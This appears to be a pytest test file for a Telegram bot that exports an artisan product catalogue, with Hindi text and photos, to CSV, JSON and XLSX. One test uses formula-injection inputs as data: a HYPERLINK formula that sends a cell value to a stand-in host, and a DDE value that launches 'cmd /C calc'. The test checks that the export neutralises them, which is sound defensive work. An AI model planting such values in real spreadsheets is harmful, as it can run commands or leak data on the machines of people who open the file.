"""The catalogue export: Hindi intact, photos beside it, in the terminal and in chat."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from argparse import Namespace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update

from bot.cli_catalogue import export_command
from bot.config import Settings
from bot.context import BotApp, services_of
from bot.handlers.catalogue import photo_worker
from bot.services.catalogue import ExportQuery, ExportResult, export_catalogue
from bot.services.catalogue_files import COLUMNS, zip_parts
from bot.storage.models import Artisan, State, Submission
from fake_telegram import FakeTelegram, FakeUser
from tests.support.factories import approve, approved_product, photos_of, submission_id
from tests.support.journey import choose_language, consent, phone_of
from tests.support.world import ADMIN_ID, REVIEWER_ID, Sessions


async def export(bot: BotApp, out: Path, fmt: str, **query: Any) -> ExportResult:
    services = services_of(bot)
    return await export_catalogue(
        services.sessions,
        services.districts,
        services.settings.media_dir,
        ExportQuery(**query),
        fmt,
        out,
    )


def read_csv(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as f:
        return list(csv.DictReader(f))


def as_cells(record: dict[str, Any]) -> dict[str, str]:
    """A JSON record in the CSV's shape: photos in columns, None as an empty cell, and the
    phone +919876512345 grouped and behind the formula guard as '+91 98765 12345."""
    photos = record.pop("photos")
    cells = {k: "" if v is None else str(v) for k, v in record.items()}
    phone = cells["mobile"]
    cells["mobile"] = f"'{phone[:3]} {phone[3:8]} {phone[8:]}"
    cells.update({f"photo_{n}": "" for n in range(1, 6)})
    cells.update({f"photo_{n}": path for n, path in enumerate(photos, 1)})
    return cells


async def test_hindi_catalogue_as_csv_and_json_parses_back_to_the_same_values(
    fake: FakeTelegram, bot: BotApp, db: Sessions, tmp_path: Path
) -> None:
    artisan, ref = await approved_product(fake, db, "hi")
    await photo_worker(bot).run_once()
    await export(bot, tmp_path / "csv", "csv")
    await export(bot, tmp_path / "json", "json")

    [row] = read_csv(tmp_path / "csv" / "catalogue.csv")
    [record] = json.loads((tmp_path / "json" / "catalogue.json").read_text(encoding="utf-8"))
    assert list(row) == list(COLUMNS)
    assert as_cells(dict(record)) == row
    assert record["reference"] == ref and record["state"] == State.APPROVED
    assert (record["artisan_name"], record["mobile"]) == ("सुनीता देवी", phone_of(artisan))
    assert (record["district"], record["district_hi"]) == ("Gorakhpur", "गोरखपुर")
    assert record["odop_product"] == "Terracotta; Readymade Garments"
    assert (record["craft"], record["product_name"]) == ("टेराकोटा", "टेराकोटा हाथी")
    assert record["description"] == "हाथ से बना मिट्टी का हाथी, भट्टी में पका हुआ।"
    assert (record["price"], record["capacity"], record["gstin"]) == (1200, None, None)
    assert record["reviewer_id"] == REVIEWER_ID and record["approved_at"]
    excel = (tmp_path / "csv" / "catalogue_excel.csv").read_bytes()
    assert excel.startswith(b"\xef\xbb\xbf")
    assert read_csv(tmp_path / "csv" / "catalogue_excel.csv", "utf-8-sig") == [row]


async def test_export_copies_the_kept_photos_beside_the_catalogue(
    fake: FakeTelegram, bot: BotApp, db: Sessions, tmp_path: Path
) -> None:
    _, ref = await approved_product(fake, db)
    await photo_worker(bot).run_once()
    result = await export(bot, tmp_path, "json")
    [record] = json.loads((tmp_path / "catalogue.json").read_text(encoding="utf-8"))
    assert record["photos"] == [f"photos/{ref}/1.png"]
    [photo] = await photos_of(db, ref)
    copied = tmp_path / record["photos"][0]
    assert copied.read_bytes() == fake.files[photo.file_id].content
    assert (result.rows, result.photos, result.missing_photos) == (1, 1, 0)


async def test_photo_not_downloaded_yet_is_counted_missing_and_no_file_id_is_exported(
    fake: FakeTelegram, bot: BotApp, db: Sessions, tmp_path: Path
) -> None:
    fake.fail("getFile", error_code=500, times=1)
    _, ref = await approved_product(fake, db)
    await photo_worker(bot).run_once()
    result = await export(bot, tmp_path, "csv")
    assert (result.rows, result.photos, result.missing_photos) == (1, 0, 1)
    [photo] = await photos_of(db, ref)
    text = (tmp_path / "catalogue.csv").read_text(encoding="utf-8")
    assert ref in text and photo.file_id not in text and photo.file_unique_id not in text


async def test_xlsx_catalogue_keeps_hindi(
    fake: FakeTelegram, bot: BotApp, db: Sessions, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    _, ref = await approved_product(fake, db)
    await export(bot, tmp_path, "xlsx")
    sheet = load_workbook(tmp_path / "catalogue.xlsx", read_only=True)["catalogue"]
    header, row = [list(r) for r in sheet.iter_rows(values_only=True)]
    values = dict(zip(header, row, strict=False))  # read-only mode drops empty trailing cells
    assert header == list(COLUMNS)
    assert (values["reference"], values["artisan_name"]) == (ref, "सुनीता देवी")
    assert values["price"] == 1200


async def test_export_filters_by_state_district_and_date(
    fake: FakeTelegram, bot: BotApp, db: Sessions, tmp_path: Path
) -> None:
    _, first = await approved_product(fake, db)
    _, second = await approved_product(fake, db)
    async with db() as session:
        await session.execute(
            update(Submission)
            .where(Submission.id == submission_id(second))
            .values(district="Varanasi")
        )
        await session.commit()
    tomorrow = datetime.now(UTC) + timedelta(days=1)
    assert (await export(bot, tmp_path / "a", "json", district="Varanasi")).rows == 1
    assert (await export(bot, tmp_path / "b", "json", since=tomorrow)).rows == 0
    assert (await export(bot, tmp_path / "c", "json", state=State.PENDING)).rows == 0
    [record] = json.loads((tmp_path / "a" / "catalogue.json").read_text(encoding="utf-8"))
    assert record["reference"] == second and first != second


def run_cli(settings: Settings, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TELEGRAM_", "WEBHOOK_"))}
    env.update(
        TELEGRAM_BOT_TOKEN=settings.telegram_bot_token,
        TELEGRAM_API_URL=settings.telegram_api_url,
        DATABASE_URL=settings.database_url,
        MEDIA_DIR=str(settings.media_dir),
        PYTHONPATH=str(Path(__file__).resolve().parent.parent),
    )
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        env=env, cwd=cwd, capture_output=True, text=True, timeout=60,
    )  # fmt: skip


async def test_operator_exports_from_the_terminal(
    fake: FakeTelegram, bot: BotApp, db: Sessions, settings: Settings, tmp_path: Path
) -> None:
    _, ref = await approved_product(fake, db)
    await photo_worker(bot).run_once()
    out = tmp_path / "export"
    args = ("export", "--state", "approved", "--district", "गोरखपुर", "--since", "2024-01-01")
    done = run_cli(settings, tmp_path, *args, "--format", "json", "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert "1 submissions, 1 photos" in done.stdout
    [record] = json.loads((out / "catalogue.json").read_text(encoding="utf-8"))
    assert record["reference"] == ref and (out / record["photos"][0]).is_file()


async def test_operator_naming_an_unknown_district_gets_one_line_and_exit_2(
    settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "export"
    out.mkdir()
    args = Namespace(district="Atlantis", state="approved", since=None, format="csv", out=out)
    assert await export_command(settings, args) == 2
    assert len(capsys.readouterr().err.strip().splitlines()) == 1
    assert os.listdir(out) == []


async def test_admin_gets_the_csv_and_zipped_photos_in_chat(
    fake: FakeTelegram, bot: BotApp, db: Sessions
) -> None:
    _, ref = await approved_product(fake, db)
    await photo_worker(bot).run_once()
    admin = fake.user(ADMIN_ID, language_code="en")
    await choose_language(admin)
    await admin.send("/export", expect=4, timeout=30)
    documents = [call for call in admin.actions if call.method == "sendDocument"]
    assert [d.file_names.get("document") for d in documents] == ["catalogue.csv", "photos_1.zip"]
    rows = list(csv.DictReader(io.StringIO(documents[0].files["document"].decode("utf-8-sig"))))
    assert [(r["reference"], r["artisan_name"]) for r in rows] == [(ref, "सुनीता देवी")]
    archive = zipfile.ZipFile(io.BytesIO(documents[1].files["document"]))
    assert archive.namelist() == [f"photos/{ref}/1.png"]
    assert "1 product, 1 photo (1 zip file)" in admin.last_text


async def test_admin_asks_for_the_spreadsheet_or_json_in_chat(
    fake: FakeTelegram, bot: BotApp, db: Sessions
) -> None:
    """ "/export xlsx" answered "no district called xlsx": the formats were the terminal's."""
    _, ref = await approved_product(fake, db)
    await photo_worker(bot).run_once()
    admin = fake.user(ADMIN_ID, language_code="en")
    await choose_language(admin)
    await admin.send("/export xlsx gorakhpur", expect=4, timeout=30)
    await admin.send("/export json", expect=4, timeout=30)
    documents = [call for call in admin.actions if call.method == "sendDocument"]
    names = [d.file_names.get("document") for d in documents]
    assert names == ["catalogue.xlsx", "photos_1.zip", "catalogue.json", "photos_1.zip"]
    assert documents[0].files["document"][:2] == b"PK"  # a workbook is a zip
    assert ref in documents[2].files["document"].decode("utf-8")


async def test_admin_filters_the_export_with_hindi_words(
    fake: FakeTelegram, bot: BotApp, db: Sessions
) -> None:
    """ "/export स्वीकृत" answered "no district called स्वीकृत"."""
    _, ref = await approved_product(fake, db)
    await photo_worker(bot).run_once()
    admin = fake.user(ADMIN_ID, language_code="hi")
    await admin.send("/export लंबित गोरखपुर", expect=2, timeout=30)
    assert "कोई उत्पाद नहीं" in admin.last_text  # none waiting: the approved one not counted
    await admin.send("/export स्वीकृत गोरखपुर", expect=4, timeout=30)
    documents = [call for call in admin.actions if call.method == "sendDocument"]
    rows = list(csv.DictReader(io.StringIO(documents[0].files["document"].decode("utf-8-sig"))))
    assert [r["reference"] for r in rows] == [ref]
    await admin.send("/export pdf")  # was "no district called pdf"
    assert admin.last_text.startswith("“pdf” समझ नहीं आया — यह न फ़ाइल का प्रकार")
    await admin.send("/export csv waiting gorakhpur", expect=2, timeout=30)  # as the bot says it
    assert "कोई उत्पाद नहीं" in admin.last_text


async def test_reviewer_asking_for_export_is_refused_in_hindi(
    fake: FakeTelegram, bot: BotApp
) -> None:
    reviewer = fake.user(REVIEWER_ID, language_code="hi")
    await reviewer.send("/export")
    assert "सिर्फ़ एडमिन" in reviewer.last_text
    assert not [call for call in reviewer.actions if call.method == "sendDocument"]


def test_photo_zips_are_split_under_the_upload_limit(tmp_path: Path) -> None:
    folder = tmp_path / "catalogue" / "photos" / "ODOP-000001"
    folder.mkdir(parents=True)
    for n in range(1, 6):
        (folder / f"{n}.jpg").write_bytes(bytes([n]) * 4000)
    parts = zip_parts(tmp_path / "catalogue", tmp_path, limit=9000)
    assert len(parts) == 3 and all(p.stat().st_size < 9000 for p in parts)
    names = [name for p in parts for name in zipfile.ZipFile(p).namelist()]
    assert names == [f"photos/ODOP-000001/{n}.jpg" for n in range(1, 6)]


FORMULA = '=HYPERLINK("http://x"&D2,"photos")'


async def register_with(artisan: FakeUser, name: str, product: str, description: str) -> str:
    """A registration typed by someone who knows spreadsheets; returns the reference."""
    await consent(artisan)
    await artisan.send(name)
    await artisan.share_contact(phone_of(artisan))
    await artisan.send("Gorakhpur")
    await artisan.press("टेराकोटा")
    await artisan.send(product)
    await artisan.send(description)
    await artisan.send("1200")
    await artisan.press("छोड़ें")
    await artisan.send_photo()
    await artisan.press("हो गया")
    await artisan.press("जमा करें")
    text = artisan.last_text
    return text[text.index("ODOP-") :][:11]


async def test_artisan_typing_a_formula_gets_text_cells_in_csv_and_xlsx(
    fake: FakeTelegram, bot: BotApp, db: Sessions, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    artisan = fake.user()
    description = "@SUM(1+1)*cmd|' /C calc'!A0 मिट्टी का हाथी"
    ref = await register_with(artisan, "-Sunita Devi", FORMULA, description)
    await approve(db, ref)
    await export(bot, tmp_path / "csv", "csv")
    await export(bot, tmp_path / "xlsx", "xlsx")

    phone = phone_of(artisan)
    grouped = f"{phone[:3]} {phone[3:8]} {phone[8:]}"
    for name, encoding in (("catalogue.csv", "utf-8"), ("catalogue_excel.csv", "utf-8-sig")):
        [row] = read_csv(tmp_path / "csv" / name, encoding)
        assert row["product_name"] == "'" + FORMULA
        assert row["description"] == "'" + description
        assert row["artisan_name"] == "'-Sunita Devi"
        assert row["mobile"] == "'" + grouped  # reads as a phone, and is no formula
        assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]

    sheet = load_workbook(tmp_path / "xlsx" / "catalogue.xlsx")["catalogue"]
    header = [cell.value for cell in sheet[1]]
    cells = {name: cell for name, cell in zip(header, sheet[2], strict=False)}
    for name, value in (
        ("product_name", FORMULA),
        ("description", description),
        ("artisan_name", "-Sunita Devi"),
        ("mobile", grouped),
    ):
        assert (cells[name].value, cells[name].data_type) == (value, "s"), name
        assert cells[name].quotePrefix, name
    assert not [c for c in sheet.iter_rows() for cell in c if cell.data_type == "f"]
    assert (cells["reference"].value, cells["price"].value) == (ref, 1200)


async def test_export_keeps_the_approved_name_after_the_artisan_renames_in_a_new_draft(
    fake: FakeTelegram, bot: BotApp, db: Sessions, tmp_path: Path
) -> None:
    artisan, ref = await approved_product(fake, db)
    await artisan.send("/start")
    await artisan.press("नया सामान")
    for _ in range(4):  # product -> craft -> district -> phone -> name
        await artisan.press("पीछे")
    await artisan.send("रमा कुमारी")
    assert "मोबाइल नंबर" in artisan.last_text  # the next question: the name was taken
    async with db() as session:
        renamed = await session.scalar(
            select(Artisan.name).where(Artisan.telegram_id == artisan.id)
        )
    assert renamed == "रमा कुमारी"

    await export(bot, tmp_path / "approved", "json")
    [record] = json.loads((tmp_path / "approved" / "catalogue.json").read_text(encoding="utf-8"))
    assert (record["reference"], record["artisan_name"]) == (ref, "सुनीता देवी")
    assert record["mobile"] == phone_of(artisan)
    admin = fake.user(ADMIN_ID, language_code="en")
    await choose_language(admin)
    await admin.send(f"/listed {ref} https://example.com/p/1", expect=1)
    await export(bot, tmp_path / "listed", "csv", state=State.LISTED)
    [row] = read_csv(tmp_path / "listed" / "catalogue.csv")
    assert (row["reference"], row["artisan_name"]) == (ref, "सुनीता देवी")
